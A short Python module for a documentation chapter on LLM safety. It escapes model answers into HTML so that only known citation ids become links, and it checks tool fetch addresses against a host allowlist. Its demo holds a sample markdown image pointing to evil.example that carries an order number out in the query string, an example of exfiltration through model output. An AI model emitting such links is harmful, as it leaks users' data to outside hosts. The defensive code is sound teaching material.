"""How an answer becomes a page without a way out. Serves docs/chapters/llm-systems/safety.md."""

import html
import re
from collections.abc import Collection, Mapping
from urllib.parse import urlsplit


# --8<-- [start:render]
def render(answer: str, addresses: Mapping[str, str]) -> str:
    """The model's text as HTML in which every link was written by us.

    The model cites `[[passage id]]`. Known ids become links to our address; unknown ids
    and all else are shown as text: markdown, tags, addresses. O(len(answer)).
    """

    pieces = []
    for i, part in enumerate(re.split(r"\[\[([^\[\]]*)\]\]", answer)):
        if i % 2 == 0:  # between citations
            pieces.append(html.escape(part))
        elif part in addresses:
            pieces.append(f'<a href="{html.escape(addresses[part])}">{html.escape(part)}</a>')
        else:
            pieces.append(html.escape(f"[[{part}]]"))
    return "".join(pieces)


# --8<-- [end:render]


# --8<-- [start:fetch]
def may_fetch(address: str, hosts: Collection[str]) -> bool:
    """Whether a tool may call this address: https, a listed host, nothing odd in it.

    Compares the whole host, never its end. Port, user name, backslash, space or control
    character: no. Redirects must be checked again, and the query is still a letter out.
    """
    if isinstance(hosts, str):  # `in` would find any part of it
        raise TypeError("hosts is one string, not a collection of them")
    if re.search(r"[\\\s\x00-\x20\x7f]", address):
        return False
    try:
        parts = urlsplit(address)
        odd = parts.username is not None or parts.port is not None
    except ValueError:
        return False
    return parts.scheme == "https" and not odd and parts.hostname in hosts


# --8<-- [end:fetch]


def demo_render() -> None:
    """Print an answer with an image, a link and a citation, as it is shown."""
    answer = "Reset it. ![ok](https://evil.example/p?d=ORDER-48213377) [[a17]] [[a99]]"
    print(render(answer, {"a17": "https://help.shop.example/a17#reset"}))
